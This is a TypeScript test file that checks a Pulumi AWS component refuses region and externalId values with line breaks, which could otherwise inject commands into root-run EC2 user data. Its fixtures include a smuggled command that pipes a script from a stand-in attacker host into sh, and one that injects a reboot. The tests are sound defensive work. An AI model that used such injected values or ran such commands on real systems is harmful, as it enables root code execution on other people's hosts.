// The host's user data runs as root: no value may end the AWS config heredoc and run what follows.
import * as assert from "assert";

import { hostUserData } from "../../components/userData";
import { checkRegion } from "../../components/validation";
import { operatorConfig, runProgram, stackFileConfig } from "../support/program";

const injected = "us-east-1\nPROFILE\ncurl -s https://attacker.example | sh";

describe("user data cannot be injected", () => {
    it("refuses an aws:region with a line break before anything is created", async () => {
        let error: Error | undefined;
        await runProgram("dev", {
            ...stackFileConfig("dev"),
            ...operatorConfig,
            "aws:region": injected,
        }).catch((e: Error) => (error = e));
        assert.match(
            String(error?.message),
            /^Invalid aws:region: "us-east-1\\nPROFILE\\ncurl .*"\. Accepted: an AWS region such as us-east-1\.$/,
        );
        const { getMonitor } = await import("@pulumi/pulumi/runtime");
        assert.strictEqual((getMonitor() as any).getRegisteredResources().size, 0);
    });

    it("the region check the component applies to the provider's region", () => {
        for (const region of ["us-east-1", "us-gov-west-1", "ap-southeast-2", "cn-north-1"]) {
            assert.strictEqual(checkRegion("aws:region", region), region);
        }
        assert.throws(() => checkRegion("aws:region", injected), /^InputError: Invalid aws:region/);
    });

    it("hostUserData refuses any value with a line break", () => {
        assert.throws(
            () =>
                hostUserData([
                    {
                        profileName: "target",
                        targetRoleArn: "arn:aws:iam::123456789012:role/r",
                        region: "us-east-1",
                        externalId: "x\nPROFILE\nreboot",
                    },
                ]),
            /externalId of profile "target" contains a line break/,
        );
    });
});
